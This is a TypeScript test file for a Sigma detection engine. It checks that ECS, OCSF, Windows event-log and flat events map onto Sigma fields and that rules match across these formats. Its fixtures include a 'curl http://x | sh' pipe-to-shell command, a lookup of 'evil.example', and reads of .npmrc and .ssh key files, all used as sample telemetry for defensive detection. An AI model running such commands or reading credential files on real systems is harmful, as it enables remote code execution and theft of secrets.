import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { readDocuments } from '../../../rules/documents.ts';
import { Engine } from '../../../rules/engine/engine.ts';
import type { EngineEvent } from '../../../rules/engine/event.ts';
import { readRules } from '../../../rules/engine/rule/read.ts';
import { type Format, readEvent } from '../../../rules/replay/formats.ts';
import { ruleTaxonomy } from '../../../rules/taxonomy/rule-fields.ts';

function read(value: unknown, format: Format): EngineEvent {
  const event = readEvent(value, format);
  if (typeof event === 'string') assert.fail(event);
  return event;
}

const process = {
  executable: '/usr/bin/curl',
  command_line: 'curl http://x | sh',
  working_directory: '/tmp',
  pid: 7,
  parent: { executable: '/usr/bin/node', args: ['node', 'x.js'] },
};

const sysmon = (id: number, data: Record<string, unknown>): unknown => ({
  Event: {
    System: {
      Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
      EventID: id,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: 'pc',
      TimeCreated: { '#attributes': { SystemTime: '2025-10-25T13:44:33.440907Z' } },
    },
    EventData: data,
  },
});

const security = (id: number, data: Record<string, unknown>): unknown => ({
  Event: { System: { EventID: { '#text': id }, Channel: 'Security' }, EventData: data },
});

describe('other shapes of events in Sigma’s words', () => {
  const cases: readonly (readonly [
    format: Format,
    value: unknown,
    source: object | undefined,
    fields: Record<string, unknown>,
  ])[] = [
    [
      'ecs',
      {
        '@timestamp': '2026-01-01T00:00:00Z',
        'host.os.type': 'linux',
        event: { category: ['process'], type: ['start'] },
        process,
        user: { name: 'dev' },
      },
      { product: 'linux', category: 'process_creation' },
      {
        Image: '/usr/bin/curl',
        CommandLine: 'curl http://x | sh',
        CurrentDirectory: '/tmp',
        ParentImage: '/usr/bin/node',
        ParentCommandLine: ['node', 'x.js'],
        User: 'dev',
        'process.pid': 7,
      },
    ],
    [
      'ecs',
      {
        event: { category: 'network' },
        host: { os: { type: 'windows' } },
        destination: { ip: '192.0.2.1', port: 443 },
      },
      { product: 'windows', category: 'network_connection' },
      { DestinationIp: '192.0.2.1', DestinationPort: 443 },
    ],
    [
      'ecs',
      { event: { category: 'network' }, dns: { type: 'query', question: { name: 'evil.example' } } },
      { product: '*', category: 'dns_query' },
      { QueryName: 'evil.example' },
    ],
    [
      'ocsf',
      {
        class_uid: 1007,
        activity_id: 1,
        time: 1_767_225_600_000,
        device: { os: { type_id: 200 }, hostname: 'h' },
        process: { file: { path: '/usr/bin/curl' }, cmd_line: 'curl x', pid: 7, user: { name: 'dev' } },
        actor: { process: { file: { path: '/usr/bin/node' }, cmd_line: 'node x.js' } },
      },
      { product: 'linux', category: 'process_creation' },
      {
        Image: '/usr/bin/curl',
        CommandLine: 'curl x',
        ParentImage: '/usr/bin/node',
        ParentCommandLine: 'node x.js',
        User: 'dev',
      },
    ],
    [
      'ocsf',
      {
        class_uid: 1001,
        activity_id: 2,
        file: { path: '/home/dev/.npmrc' },
        actor: { process: { name: 'node' } },
      },
      { product: '*', category: 'file_access' },
      { TargetFilename: '/home/dev/.npmrc', Image: 'node' },
    ],
    [
      'ocsf',
      { class_uid: 4001, activity_id: 1, dst_endpoint: { ip: '192.0.2.1', port: 443, hostname: 'h' } },
      { product: '*', category: 'network_connection' },
      { DestinationIp: '192.0.2.1', DestinationPort: 443, DestinationHostname: 'h' },
    ],
    [
      'ocsf',
      { class_uid: 4003, query: { hostname: 'evil.example' }, answers: [{ rdata: '192.0.2.1' }] },
      { product: '*', category: 'dns_query' },
      { QueryName: 'evil.example', QueryResults: ['192.0.2.1'] },
    ],
    [
      'evtx-json',
      sysmon(1, { Image: 'C:\\a.exe', CommandLine: 'a', 'User Name': 'x' }),
      { product: 'windows', category: ['process_creation'], service: 'sysmon' },
      {
        Image: 'C:\\a.exe',
        CommandLine: 'a',
        EventID: 1,
        Computer: 'pc',
        Provider_Name: 'Microsoft-Windows-Sysmon',
      },
    ],
    [
      'evtx-json',
      sysmon(3, {}),
      { product: 'windows', category: ['network_connection'], service: 'sysmon' },
      {},
    ],
    ['evtx-json', sysmon(11, {}), { product: 'windows', category: ['file_event'], service: 'sysmon' }, {}],
    [
      'evtx-json',
      sysmon(12, { EventType: 'DeleteKey' }),
      { product: 'windows', category: ['registry_event', 'registry_delete'], service: 'sysmon' },
      {},
    ],
    [
      'evtx-json',
      sysmon(12, { EventType: 'CreateKey' }),
      { product: 'windows', category: ['registry_event', 'registry_add'], service: 'sysmon' },
      {},
    ],
    [
      'evtx-json',
      sysmon(13, {}),
      { product: 'windows', category: ['registry_event', 'registry_set'], service: 'sysmon' },
      {},
    ],
    [
      'evtx-json',
      security(4688, {
        NewProcessName: 'C:\\a.exe',
        CommandLine: 'a',
        ParentProcessName: 'C:\\p.exe',
        SubjectUserName: 'u',
      }),
      { product: 'windows', category: ['process_creation'], service: 'security' },
      { Image: 'C:\\a.exe', NewProcessName: 'C:\\a.exe', ParentImage: 'C:\\p.exe', User: 'u', EventID: 4688 },
    ],
    [
      'evtx-json',
      security(4663, { ObjectName: 'C:\\Users\\u\\.ssh\\id', ProcessName: 'C:\\n.exe' }),
      { product: 'windows', category: ['file_access'], service: 'security' },
      { TargetFilename: 'C:\\Users\\u\\.ssh\\id', FileName: 'C:\\Users\\u\\.ssh\\id', Image: 'C:\\n.exe' },
    ],
    [
      'evtx-json',
      {
        System: { EventID: 1, Channel: 'Other' },
        EventData: { Data: [{ '#attributes': { Name: 'a' }, '#text': 'b' }] },
      },
      { product: 'windows' },
      { a: 'b' },
    ],
    ['flat', { Image: '/a', logsource: { Category: 1, category: 'X' } }, { category: 'x' }, { Image: '/a' }],
    ['flat', { Image: '/a' }, undefined, { Image: '/a', toString: undefined, __proto__: undefined }],
  ];
  for (const [format, value, source, fields] of cases)
    it(`${format}: ${JSON.stringify(source) ?? 'any log source'}`, () => {
      const event = read(value, format);
      assert.deepEqual(event.source, source);
      for (const [name, expected] of Object.entries(fields))
        assert.deepEqual(event.field(name), expected, name);
    });

  const times: readonly (readonly [format: Format, value: unknown, time: string])[] = [
    ['evtx-json', sysmon(1, {}), '2025-10-25T13:44:33.440Z'],
    ['flat', { UtcTime: '2025-10-25 13:44:33.433' }, '2025-10-25T13:44:33.433Z'],
    ['flat', { '@timestamp': '2025-10-25T15:44:33+02:00' }, '2025-10-25T13:44:33.000Z'],
    ['flat', { timestamp: 1_761_399_873 }, '2025-10-25T13:44:33.000Z'],
    ['flat', { time: 1_761_399_873_000 }, '2025-10-25T13:44:33.000Z'],
    ['flat', { time: 'soon' }, '1970-01-01T00:00:00.000Z'],
    ['ecs', { '@timestamp': '2025-10-25T13:44:33Z' }, '2025-10-25T13:44:33.000Z'],
  ];
  for (const [format, value, time] of times)
    it(`${format}: the time ${time}`, () =>
      assert.equal(new Date(read(value, format).time).toISOString(), time));

  it('say why a value is no event', () => {
    assert.equal(readEvent(5, 'flat'), 'not a JSON object');
    assert.equal(readEvent([], 'ecs'), 'not a JSON object');
    assert.equal(readEvent({}, 'evtx-json'), 'no Event.System: not an event record');
    const broken = readEvent({ kind: 'file' }, 'native');
    assert.match(typeof broken === 'string' ? broken : '', /^not an event: /);
  });

  it('rules in the words of ECS and OCSF match events of any shape', () => {
    for (const [taxonomy, field] of [
      ['ecs', 'dns.question.name'],
      ['ocsf', 'query.hostname'],
    ]) {
      const text = `title: t\nid: t\ntaxonomy: ${taxonomy}\nlogsource: { category: dns_query }\ndetection:\n  s: { ${field}: evil.example }\n  condition: s\n`;
      const { documents, problems } = readRules(text, 'x', { taxonomy: ruleTaxonomy });
      assert.deepEqual(
        problems.filter(({ severity }) => severity === 'error'),
        [],
      );
      const engine = new Engine(documents);
      const events = [
        read({ class_uid: 4003, query: { hostname: 'evil.example' } }, 'ocsf'),
        read({ dns: { type: 'query', question: { name: 'evil.example' } } }, 'ecs'),
        read({ QueryName: 'evil.example' }, 'flat'),
      ];
      assert.deepEqual(
        events.map((event) => engine.evaluate(event).length),
        [1, 1, 1],
      );
    }
  });

  it('a SigmaHQ rule for Linux fires on the same fact in ECS, in OCSF and flat', async function () {
    const folder = '../shared/sigma/rules/linux/process_creation';
    if (!existsSync(folder)) {
      console.warn('SKIPPED: ../shared/sigma is absent');
      this.skip();
    }
    const engine = new Engine((await readDocuments([folder])).documents);
    const ids = (event: EngineEvent): string[] => engine.evaluate(event).map(({ rule }) => rule.head.id);
    const [image, line, parent] = ['/usr/bin/base64', 'base64 -d /tmp/x', '/usr/bin/bash'];
    const shapes = [
      read(
        {
          Image: image,
          CommandLine: line,
          ParentImage: parent,
          logsource: { product: 'linux', category: 'process_creation' },
        },
        'flat',
      ),
      read(
        {
          host: { os: { type: 'linux' } },
          event: { category: ['process'], type: ['start'] },
          process: { executable: image, command_line: line, parent: { executable: parent } },
        },
        'ecs',
      ),
      read(
        {
          class_uid: 1007,
          activity_id: 1,
          device: { os: { type_id: 200 } },
          process: { file: { path: image }, cmd_line: line },
          actor: { process: { file: { path: parent } } },
        },
        'ocsf',
      ),
    ].map(ids);
    assert.ok((shapes[0]?.length ?? 0) > 0);
    assert.deepEqual(shapes[1], shapes[0]);
    assert.deepEqual(shapes[2], shapes[0]);
  });
});
